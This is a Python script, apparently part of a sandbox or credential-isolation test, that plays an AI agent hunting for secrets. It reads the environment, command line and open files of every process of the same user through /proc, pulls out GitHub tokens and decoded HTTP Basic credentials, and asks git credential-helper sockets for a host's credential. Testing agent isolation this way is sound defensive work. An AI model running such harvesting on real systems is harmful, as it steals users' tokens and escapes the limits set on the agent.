"""An agent's command that hunts for credentials in the other processes of its uid: run it in a sandbox.

`python3 snoop.py READY STOP HOST`: loops over every process's environment, command line and open regular files
(through /proc/PID/fd), keeping whatever looks like a GitHub token or an HTTP basic credential (decoded), and asks
every credential socket it sees named on a command line for HOST's credential, as git's helper would. Creates READY
after its first full pass, stops when STOP exists, and prints what it found as JSON.

Pipes and sockets are left alone: reading another process's pipe steals its data (git would fail for that alone),
and /proc does not let a socket be opened. The script receives no secret: it finds what is there to find.
"""

import base64
import binascii
import json
import os
import re
import socket
import stat
import sys
import time

TOKEN = re.compile(rb"gh[pousr]_[A-Za-z0-9_]{8,}")
BASIC = re.compile(rb"Basic ([A-Za-z0-9+/=]{12,})")
SOCKET = re.compile(rb"git_credential_helper\.py'? '?(/[^'\x00 ]+)")
FILE_LIMIT = 4 * 1024 * 1024
LIFETIME_S = 300


def main(ready: str, stop: str, host: str) -> None:
    found: set[str] = set()
    seen: dict[str, int] = {}
    asked: dict[str, str] = {}
    passes = 0
    started = time.monotonic()
    while not os.path.exists(stop) and time.monotonic() - started < LIFETIME_S:
        for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
            snoop(pid, found, seen, asked, host)
        passes += 1
        if passes == 1:
            open(ready, "w").close()
    print(json.dumps({"found": sorted(found), "seen": seen, "asked": asked, "passes": passes}))


def snoop(pid: str, found: set[str], seen: dict[str, int], asked: dict[str, str], host: str) -> None:
    comm = read(f"/proc/{pid}/comm").strip().decode(errors="replace")
    environ = read(f"/proc/{pid}/environ")
    if environ:
        seen[comm] = seen.get(comm, 0) + 1
    cmdline = read(f"/proc/{pid}/cmdline")
    texts = [environ, cmdline]
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            info, target = os.stat(path), os.readlink(path)
        except OSError:
            continue
        # /proc and /sys files pass for regular ones, and some block a reader forever (/proc/kmsg).
        if stat.S_ISREG(info.st_mode) and not target.startswith(("/proc/", "/sys/")):
            texts.append(read(path, FILE_LIMIT))
    for text in texts:
        found.update(m.decode(errors="replace") for m in TOKEN.findall(text))
        for encoded in BASIC.findall(text):
            try:
                found.add(base64.b64decode(encoded).decode(errors="replace"))
            except (binascii.Error, ValueError):
                pass
    for path in SOCKET.findall(cmdline):
        name = path.decode(errors="replace")
        if name not in asked:
            asked[name] = ask(name, host)


def ask(path: str, host: str) -> str:
    """What the credential socket at `path` answers a question about `host`."""
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(10)
            connection.connect(path)
            connection.sendall(f"protocol=https\nhost={host}\n\n".encode())
            connection.shutdown(socket.SHUT_WR)
            answer = b""
            while chunk := connection.recv(65536):
                answer += chunk
            return answer.decode(errors="replace")
    except OSError as exc:
        return f"error: {exc}"


def read(path: str, limit: int = 1024 * 1024) -> bytes:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        with os.fdopen(fd, "rb") as file:
            return file.read(limit) or b""
    except OSError:
        return b""


if __name__ == "__main__":
    main(*sys.argv[1:4])
